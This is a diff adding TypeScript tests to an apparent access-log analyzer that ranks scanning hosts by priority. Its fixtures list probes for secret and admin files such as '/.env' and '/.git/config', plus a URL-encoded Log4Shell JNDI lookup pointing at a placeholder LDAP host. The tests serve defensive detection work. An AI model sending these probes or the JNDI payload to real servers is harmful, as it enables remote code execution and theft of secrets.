@@ -102,6 +102,35 @@ describe("analyze", () => {
   });
 });
 
+describe("priority", () => {
+  const asks = ["/.env", "/phpmyadmin/", "/server-status", "/.git/config", "/actuator/env", "/solr/admin/info/system"];
+  const attempt = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D";
+  const scan = (...extra: readonly (readonly [string, number])[]) => [
+    ...guesses,
+    ...extra.map(([path, status]) => ["203.0.113.7", path, status] as const),
+  ];
+
+  test.each([
+    ["a file of secrets that is not there", scan(["/.env", 404]), "noise"],
+    ["a file of secrets that is handed out", scan(["/.env", 200]), "act"],
+    ["a file that one host lacks and another hands out", scan(["/.env", 404], ["/.env", 200]), "act"],
+    ["a server that answers whatever is asked", scan(...asks.map((path) => [path, 200] as const)), "noise"],
+    ["an attempt in the query of a page that answers any query", scan([attempt, 200]), "notable"],
+  ])("%s", async (name, lines, priority) => {
+    const { report } = await analyze({ inputs: [accessLog(`${name}.log`, lines)], now: NOW });
+    expect(report.actors.map((actor) => [actor.verdict, actor.priority])).toEqual([["scanner", priority]]);
+  });
+
+  test("explain shows the row that was answered", async () => {
+    const path = accessLog("answered.log", scan(["/.env", 404], ["/.env", 200]));
+    const { explained } = await analyze({ inputs: [path], now: NOW, explain: "203.0.113.7" });
+    expect(explained!.checks).toEqual([
+      { id: "dotenv-file", product: "Laravel/Symfony/Node dotenv", count: 2, answered: 1 },
+    ]);
+    expect(explained!.evidence.at(-1)).toMatchObject({ position: 12, weight: 0 });
+  });
+});
+
 const laboratory = "../shared/data/lab";
 
 describe("the labelled sets", () => {
